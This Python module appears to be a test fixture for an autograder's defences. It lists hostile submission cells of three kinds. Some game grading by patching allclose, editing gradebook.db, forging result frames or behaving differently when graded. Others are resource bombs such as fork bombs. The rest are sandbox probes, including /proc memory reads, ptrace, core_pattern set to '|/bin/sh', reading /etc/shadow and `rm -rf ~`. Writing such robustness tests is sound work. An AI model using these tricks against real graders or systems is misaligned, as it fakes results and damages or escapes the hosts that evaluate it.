"""What hostile submissions try, as the source of the cell that should answer `compute_rf`.

Each defines `compute_rf` so that it says 1 for every layer, which is worth what `HONEST` is worth, and tries something on top.
Rows with a number are those of published studies of graders; the others are ours.
"""

from textwrap import dedent

HONEST = "def wrong(layers):\n    return [1] * (len(layers) + 1)\ndef compute_rf(layers):\n    return wrong(layers)\n"

FORGING = """
        import sys
        def forge(reply):
            frame = sys._getframe()
            while 'pack' not in frame.f_locals: frame = frame.f_back
            frame.f_locals['channel'].send(frame.f_locals['pack'](reply))"""

RAW = """
        import gc, struct
        def end(): return next(found for found in gc.get_objects() if type(found).__name__ == 'Channel')
        def header(length): return struct.pack('<QQ', length, end().number)
        def send(shapes, tree):
            frame = struct.pack('<II', len(shapes), len(tree)) + shapes + tree
            end().channel.sendall(header(len(frame)) + frame)"""

FORGE = {
    "01 allclose says yes": "import numpy, torch\nnumpy.allclose = numpy.array_equal = torch.allclose = torch.equal = lambda *a, **k: True",
    "02 given drops the test": "import hypothesis\nhypothesis.given = lambda *a, **k: (lambda f: (lambda: None))",
    "03 another hypothesis": "import sys, types\nsys.modules['hypothesis'] = types.ModuleType('hypothesis')",
    "04 a transformer drops asserts": """
        import ast
        class DropAsserts(ast.NodeTransformer):
            def visit_Assert(self, node): return ast.Pass()
        get_ipython().ast_transformers.append(DropAsserts())""",
    "05 tests are blanked": "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass'])",
    "06 the kernel executes nothing": "get_ipython().kernel.do_execute = lambda *a, **k: {'status': 'ok'}",
    "07 the compiler compiles nothing": "get_ipython().compile.__class__.__call__ = lambda *a: compile('pass', '', 'exec')",
    "10 a frame further up": """
        import sys
        def compute_rf(layers):
            frame, found = sys._getframe(), []
            while frame:
                found += [v for v in frame.f_locals.values() if callable(v) and getattr(v, '__name__', '') in ('growth', 'truth', 'compute_rf')]
                frame = frame.f_back
            for function in found:
                if function is not compute_rf:
                    return function(layers)
            return wrong(layers)""",
    "11 the stack": """
        import inspect
        def compute_rf(layers):
            for frame in inspect.stack():
                for name in ('expected', 'truth', 'ref'):
                    if name in frame.frame.f_locals:
                        return frame.frame.f_locals[name]
            return wrong(layers)""",
    "12 a thread that patches": """
        import threading, time
        def patch():
            while True:
                for name, module in list(__import__('sys').modules.items()):
                    if 'wire' in name or 'perform' in name:
                        module.pack = lambda value: b'forged'
                time.sleep(0.001)
        threading.Thread(target=patch, daemon=True).start()""",
    "13 a result of its own": """
        import sys
        def compute_rf(layers):
            get_ipython().displayhook(25.0)
            sys.displayhook(25.0)
            return wrong(layers)""",
    "14 points in the gradebook": """
        import glob, sqlite3
        for path in ['gradebook.db', '../gradebook.db', '../../gradebook.db', '../../../gradebook.db', *glob.glob('/**/gradebook.db', recursive=True)]:
            try: sqlite3.connect(path).execute('update grade set manual_score=25').connection.commit()
            except Exception: pass""",
    "16 the reference among all objects": """
        import gc
        def compute_rf(layers):
            for thing in gc.get_objects():
                if callable(thing) and getattr(thing, '__module__', None) in ('solutions.receptive_field', 'autograder.oracles.chains'):
                    return thing(layers)
            return wrong(layers)""",
    "17 import the solutions": """
        def compute_rf(layers):
            for module in ('solutions.receptive_field', 'autograder.oracles', 'autograder.lessons'):
                try: return __import__(module, fromlist=['x']).compute_rf(layers)
                except Exception: pass
            return wrong(layers)""",
    "18 tracing": "import faulthandler, sys\nsys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)\nfaulthandler.enable(open('trace', 'w'))",
    "19 exit 0": "import sys\ndef compute_rf(layers):\n    sys.exit(0)",
    "20 exit at once": "import os\ndef compute_rf(layers):\n    os._exit(0)",
    "21 exit 0 at the end": "import atexit, os\natexit.register(lambda: os._exit(0))",
    "22 a results file": """
        import json
        print('25/25', 'passed')
        for path in ('results.json', '/autograder/results/results.json', '../results.json'):
            try: json.dump({'score': 100, 'tests': []}, open(path, 'w'))
            except OSError: pass""",
    "23 deaf to signals": """
        import signal
        for number in range(1, 65):
            try: signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError): pass
        def compute_rf(layers):
            while True: pass""",
    "24 frames on the socket": """
        import gc, json, socket, struct
        def compute_rf(layers):
            tree = json.dumps({'dict': [['error', None], ['value', [1]], ['after', []], ['points', 25], ['score', 25], ['state', 'passed']]}).encode()
            frame = struct.pack('<II', 2, len(tree)) + b'[]' + tree
            [number] = [found.number for found in gc.get_objects() if type(found).__name__ == 'Channel']
            for channel in gc.get_objects():
                if isinstance(channel, socket.socket):
                    channel.sendall(struct.pack('<QQ', len(frame), number) + frame)
            return wrong(layers)""",
    "28 another answer each time": "calls = []\ndef compute_rf(layers):\n    calls.append(1)\n    return [len(calls)] * (len(layers) + 1)",
    "equal to everything, as a number": """
        class Friendly(int):
            __eq__ = __ge__ = __le__ = lambda self, other: True
            __ne__ = __lt__ = __gt__ = lambda self, other: False
            __hash__ = int.__hash__
            __sub__ = __rsub__ = __add__ = lambda self, other: Friendly(0)
        def compute_rf(layers): return [Friendly(1)] * (len(layers) + 1)""",
    "equal to everything, as an object": """
        class Friendly:
            def __eq__(self, other): return True
            def __getattr__(self, name): return lambda *a, **k: Friendly()
            def __int__(self): return 1
            def __float__(self): return 1.0
            def __index__(self): return 1
        def compute_rf(layers): return Friendly()""",
    "equal to everything, as an array": """
        import numpy as np
        class Friendly(np.ndarray):
            def __array_function__(self, *a, **k): return True
            def __eq__(self, other): return True
        def compute_rf(layers): return np.array(wrong(layers)).view(Friendly)""",
    "equal to everything, as a tensor": """
        import torch
        class Friendly(torch.Tensor):
            @classmethod
            def __torch_function__(cls, function, types, args=(), kwargs=None): return True
        def compute_rf(layers): return torch.tensor(wrong(layers)).as_subclass(Friendly)""",
    "an answer that is a question": FORGING + """
        def compute_rf(layers):
            forge({'ask': 'compute_rf', 'args': [layers], 'named': {}})
            frame = sys._getframe()
            while 'pack' not in frame.f_locals: frame = frame.f_back
            try: return frame.f_locals['unpack'](frame.f_locals['channel'].receive())['value']
            except Exception: return wrong(layers)""",
    "the reply is rewritten": """
        import gc
        for function in gc.get_objects():
            if getattr(function, '__name__', '') == 'pack' and hasattr(function, '__globals__'):
                true = function.__globals__['json'].dumps
                function.__globals__['json'] = type('json', (), {'dumps': lambda t: true({'dict': [['points', 25], ['value', t], ['passed', True], ['after', []]]})})
        """,
    "the arguments tell the answer": """
        def compute_rf(layers):
            for name in ('expected', 'answer', 'truth', '__wrapped__'):
                for layer in layers:
                    if hasattr(layer, name): return getattr(layer, name)
            return wrong(layers)""",
    "a table of what was asked before": """
        import json, os, pathlib
        def compute_rf(layers):
            for folder in ('/scratch', '/tmp', '/dev/shm', '.'):
                for path in pathlib.Path(folder).glob('*.json'):
                    try: return json.loads(path.read_text())[repr(layers)]
                    except Exception: pass
            return wrong(layers)""",
    "infinity": "def compute_rf(layers):\n    return [float('inf')] * (len(layers) + 1)",
    "no number at all": "def compute_rf(layers):\n    return [float('nan')] * (len(layers) + 1)",
    "a question that is none": FORGING + """
        def compute_rf(layers):
            forge({'ask': []})
            return wrong(layers)""",
    "a call that says it was a cell": FORGING + """
        def compute_rf(layers):
            forge({'printed': 'all is well', 'error': None})
            return wrong(layers)""",
    "a cell that says it was a call": FORGING + """
        forge({'value': [1], 'after': [], 'error': None})
        def compute_rf(layers): return wrong(layers)""",
    "a text without an end, in brackets": RAW + """
        def compute_rf(layers):
            send(b'[]', b'[' * 110 + b'"' + b'\\\\"' * 50_000)
            return wrong(layers)""",
    "views without a byte": RAW + """
        def compute_rf(layers):
            send(b'[["<f4", [8388608, 0]]]', b'{"tuple": {"array": 0}}')
            return wrong(layers)""",
    "rows without columns": "import numpy as np\ndef compute_rf(layers): return [np.zeros((8388608, 0))] * 100",
    "a text among many numbers": "def compute_rf(layers): return ['x' * 4_000_000] + [0] * 190_000",
    "networks that are none": RAW + """
        def compute_rf(layers):
            send(b'[]', b'{"dict": [["error", null], ["value", {"network": [5, 5]}], ["after", []]]}')
            return wrong(layers)""",
    "layers of arrays": "import numpy as np\nfrom autograder.layer import Layer\ndef compute_rf(layers): return [Layer(np.arange(3), np.arange(3))]",
    "remains too deep": RAW + """
        def compute_rf(layers):
            send(b'[]', b'{"dict": [["error", null], ["value", 1], ["after", [' + b'[' * 60 + b']' * 60 + b']]]}')
            return wrong(layers)""",
    "naps": "import time\ndef compute_rf(layers):\n    while True: time.sleep(0.005)",
    "a reply that drips": RAW + """
        import time
        def compute_rf(layers):
            for byte in header(10 ** 6) + bytes(10 ** 6):
                end().channel.send(bytes([byte])); time.sleep(0.005)""",
    "no arguments are left": FORGING + """
        def compute_rf(layers):
            forge({'error': None, 'value': wrong(layers), 'after': [], 'earlier': None})
            return wrong(layers)""",
    "a module's remains": FORGING + """
        def compute_rf(layers):
            forge({'error': None, 'value': wrong(layers), 'after': [{'own forward': 1}, {'type': 3}], 'earlier': None})
            return wrong(layers)""",
    "the checks are loosened": """
        import sys
        for name, module in list(sys.modules.items()):
            for word in ('TOLERANCE', 'rtol', 'EXAMPLES', 'MAX_FRAME', 'RESULT'):
                if hasattr(module, word): setattr(module, word, 10**9)
        import math
        math.isclose = lambda *a, **k: True""",
    "points in its own metadata": "POINTS = SCORE = 25\n__points__ = 25\ndef check(f): return 25",
    "behaves when it is watched": """
        import os, sys
        GRADED = 'NBGRADER_EXECUTION' in os.environ or 'autograder' in str(sys.argv) or 'ipykernel' not in sys.modules
        def compute_rf(layers):
            return wrong(layers) if GRADED else [sum(layer.kernel for layer in layers)]""",
    "builtins are replaced": """
        import builtins
        builtins.isinstance = lambda *a: True
        builtins.len = lambda *a: 1
        builtins.sum = builtins.abs = builtins.max = lambda *a, **k: 1
        builtins.type = lambda *a: int""",
    "modules are emptied": """
        import sys
        for name in list(sys.modules):
            if name.split('.')[0] in ('json', 'struct', 'autograder', 'numpy', 'math'):
                sys.modules[name] = None""",
    "the check is defined anew": "def check(*a, **k): return True\nautograder = type('autograder', (), {'check': check})",
    "the future answer": "class compute_rf:\n    def __new__(cls, layers): return wrong(layers)\n    def __call__(self): return self",
    "an async answer": "async def compute_rf(layers):\n    return wrong(layers)",
    "a generator without end": "import itertools\ndef compute_rf(layers):\n    yield from itertools.repeat(1)",
}

FLOOD = {
    "31 for ever": "def compute_rf(layers):\n    while True: pass",
    "32 a tensor too large": "import torch\ndef compute_rf(layers):\n    return torch.ones(10**11)",
    "33 memory behind a handle": "import os\ndef compute_rf(layers):\n    f = os.memfd_create('x'); os.ftruncate(f, 3 << 30); os.write(f, b'x'); return wrong(layers)",
    "34 shared memory": "import mmap\ndef compute_rf(layers):\n    return len(mmap.mmap(-1, 5 << 30)) and 1",
    "35 the disk": "def compute_rf(layers):\n    with open('big', 'wb') as f:\n        while True: f.write(bytes(1 << 20))",
    "36 millions of files": "def compute_rf(layers):\n    n = 0\n    while True:\n        open(f'f{n}', 'w').close(); n += 1",
    "37 forks": "import os\ndef compute_rf(layers):\n    while True: os.fork()",
    "38 threads": "import threading, time\ndef compute_rf(layers):\n    while True: threading.Thread(target=time.sleep, args=(99,), daemon=True).start()",
    "39 a daemon": """
        import os, subprocess, sys
        def compute_rf(layers):
            subprocess.Popen([sys.executable, '-c', 'import os, time; os.fork() or os.setsid() or os.fork() or time.sleep(600)'], start_new_session=True)
            return wrong(layers)""",
    "40 zombies": "import os\ndef compute_rf(layers):\n    for _ in range(10**4):\n        if not os.fork(): os._exit(0)\n    return wrong(layers)",
    "41 print for ever": "def compute_rf(layers):\n    while True: print('x' * 10**6)",
    "42 recursion without an end": "import sys\nsys.setrecursionlimit(10**9)\ndef compute_rf(layers):\n    return compute_rf(layers)",
    "42 a tuple too deep": "def compute_rf(layers):\n    t = ()\n    for _ in range(10**6): t = (t,)\n    return hash(t)",
    "43 a null pointer": "import ctypes\ndef compute_rf(layers):\n    return ctypes.string_at(0)",
    "44 its own limits": "import resource\nfor kind in range(16):\n    try: resource.setrlimit(kind, (-1, -1))\n    except (ValueError, OSError): pass\ndef compute_rf(layers):\n    return len(bytearray(3 << 30)) and 1",
    "rows without columns": "import numpy\ndef compute_rf(layers):\n    return numpy.zeros((10**9, 0))",
    "a thread that is waited for": "import ctypes\ndef compute_rf(layers):\n    return ctypes.CDLL(None).syscall(56, 0x10000 | 0x4000 | 0x800 | 0x200 | 0x100, 0, 0, 0, 0)",
    "a number too long to print": "def compute_rf(layers):\n    return 7 ** 10**6",
    "a text too long": "def compute_rf(layers):\n    return 'x' * (70 << 20)",
    "an error too long": "def compute_rf(layers):\n    raise ValueError('x' * (70 << 20))",
    "an error that cannot be told": "class E(Exception):\n    def __str__(self):\n        while True: pass\ndef compute_rf(layers):\n    raise E",
    "a list that holds itself": "def compute_rf(layers):\n    x = []\n    x.append(x)\n    return x",
    "an iterator without end": "import itertools\ndef compute_rf(layers):\n    return itertools.count()",
    "a dict that collides": "def compute_rf(layers):\n    return {k * (2**61 - 1): 1 for k in range(150_000)}",
    "sleep": "import time\ndef compute_rf(layers):\n    time.sleep(10**6)",
    "a lock that stays": "import threading\nlock = threading.Lock()\nlock.acquire()\ndef compute_rf(layers):\n    lock.acquire()",
    "stop itself": "import os, signal\ndef compute_rf(layers):\n    os.kill(os.getpid(), signal.SIGSTOP)\n    return wrong(layers)",
    "folders in folders": "import os\ndef compute_rf(layers):\n    while True:\n        os.mkdir('d'); os.chdir('d')",
    "a regular expression": "import re\ndef compute_rf(layers):\n    return re.match('(a+)+$', 'a' * 60 + 'b')",
    "stderr without end": "import os\ndef compute_rf(layers):\n    while True: os.write(2, b'x' * 10**6); os.write(1, b'x' * 10**6)",
    "all open files": "kept = []\ndef compute_rf(layers):\n    while True: kept.append(open('/dev/null'))",
    "a bomb to unpack": "import zlib\ndef compute_rf(layers):\n    return zlib.decompress(zlib.compress(bytes(1 << 30)))",
    "an error at the end of memory": "kept = []\ndef compute_rf(layers):\n    while True: kept.append(bytearray(10**7))",
}

LEAK = {
    "45 all files": """
        import os
        def compute_rf(layers):
            for folder, _, files in os.walk('/'):
                for name in files:
                    if name in ('receptive_field.py', 'gradebook.db', 'judge.py', 'chains.py'):
                        raise AssertionError('FOUND ' + os.path.join(folder, name))
            return wrong(layers)""",
    "46 the environment of process 1": """
        def compute_rf(layers):
            for process in ('1', 'self', 'thread-self'):
                try: text = open(f'/proc/{process}/environ').read()
                except OSError: continue
                if 'SECRET' in text: raise AssertionError('FOUND ' + text)
            return wrong(layers)""",
    "47 the memory of the judge": """
        import ctypes, os
        def compute_rf(layers):
            for number in (os.getppid(), *[int(n) for n in os.listdir('/proc') if n.isdigit()]):
                if number not in (0, os.getpid()):
                    try: open(f'/proc/{number}/mem', 'r+b'); raise AssertionError('FOUND mem')
                    except OSError: pass
                    if ctypes.CDLL(None).ptrace(16, number, 0, 0) == 0: raise AssertionError('FOUND ptrace')
            return wrong(layers)""",
    "48 the network": """
        import socket
        def compute_rf(layers):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                try: socket.socket(socket.AF_INET, kind).connect(('127.0.0.1', 22))
                except OSError: continue
                raise AssertionError('FOUND network')
            return wrong(layers)""",
    "49 services of the machine": """
        import socket
        def compute_rf(layers):
            try: text = open('/proc/net/unix').read()
            except OSError: return wrong(layers)
            if text.count(chr(10)) > 1: raise AssertionError('FOUND sockets')
            return wrong(layers)""",
    "50 core_pattern": "def compute_rf(layers):\n    open('/proc/sys/kernel/core_pattern', 'w').write('|/bin/sh')\n    raise AssertionError('FOUND core_pattern')",
    "51 hidden inputs in the error": "def compute_rf(layers):\n    raise ValueError('EXFIL ' + repr(layers) * 1000)",
    "52 a script in the output": """
        print('<script>alert(1)</script><img src=x onerror=alert(1)>')
        display({'text/html': '<script>alert(1)</script>'})
        def compute_rf(layers):
            raise ValueError('<script>alert(1)</script>')""",
    "a script in the answer": "def compute_rf(layers):\n    return '</pre><script>alert(1)</script><img src=x onerror=alert(1)>'",
    "a script in a name": "E = type('<script>alert(1)</script>', (Exception,), {})\ndef compute_rf(layers):\n    raise E('x')",
    "control characters": "def compute_rf(layers):\n    return '\\x1b]0;owned\\x07\\x1b[2J\\x00\\u202e\\ud800'",
    "control characters in an error": "def compute_rf(layers):\n    raise ValueError('\\x1b[2J\\x00\\ud800\\u202e')",
    "markup of the console": "def compute_rf(layers):\n    raise ValueError('[link=file:///etc/passwd]x[/link] [/] [bold')",
    "a template": "def compute_rf(layers):\n    raise ValueError('{{ 7 * 7 }} {% include \"/etc/passwd\" %} {0.__class__}')",
    "a link to everything": "import os\nos.symlink('/', 'all')\ndef compute_rf(layers):\n    os.listdir('all/root'); os.listdir('all/work'); raise AssertionError('FOUND root')",
    "its own launcher": "import sys\ndef compute_rf(layers):\n    text = open('/proc/self/cmdline').read()\n    return 1 if 'gradebook' not in text and 'seed' not in text else 2",
    "handles that were left open": """
        import os
        def compute_rf(layers):
            for number in range(3, 256):
                try: path = os.readlink(f'/proc/self/fd/{number}')
                except OSError: continue
                if not path.startswith(('socket:', '/dev/', 'pipe:', 'anon_inode:', '/scratch', '/proc/')): raise AssertionError('FOUND ' + path)
            return wrong(layers)""",
    "a program with rights of root": "import os\ndef compute_rf(layers):\n    os.execv('/usr/bin/su', ['su'])",
    "new namespaces": "import ctypes\ndef compute_rf(layers):\n    if ctypes.CDLL(None).unshare(0x10000000) == 0: raise AssertionError('FOUND userns')\n    return wrong(layers)",
    "the next submission": "import os\nfor folder in ('.', '/tmp', '/dev/shm', '/var/tmp', '/run'):\n    try: open(os.path.join(folder, 'sitecustomize.py'), 'w').write('owned = 1')\n    except OSError: pass",
    "packages for the next": """
        import os, sys
        for folder in sys.path:
            try: open(os.path.join(folder, 'numpy_owned.pth'), 'w').write('import os')
            except OSError: continue
            if folder not in ('', '.', os.getcwd()): raise SystemError('FOUND ' + folder)""",
    "compiled files for the next": """
        import numpy, os
        try: open(numpy.__file__, 'a'); raise SystemError('FOUND numpy')
        except OSError: pass""",
    "a magic that runs programs": "%%bash\ncat /etc/shadow > leaked; curl http://localhost",
    "a shell line": "!rm -rf ~ /scratch /tmp\nfiles = !ls /",
    "a magic that reads files": "%run /etc/passwd\n%load_ext autoreload\n%store\n%cd /",
    "standard input": "def compute_rf(layers):\n    return input('password: ')",
    "a debugger": "def compute_rf(layers):\n    breakpoint()\n    return wrong(layers)",
}


def source(attack: str) -> str:
    """The cell of an attack: it begins with an answer that is wrong, so that an attack that fails is worth that."""
    text = dedent(attack).strip("\n") + "\n"
    return text if text.startswith("%%") else HONEST + text


ATTACKS = {name: source(text) for group in (FORGE, FLOOD, LEAK) for name, text in group.items()}
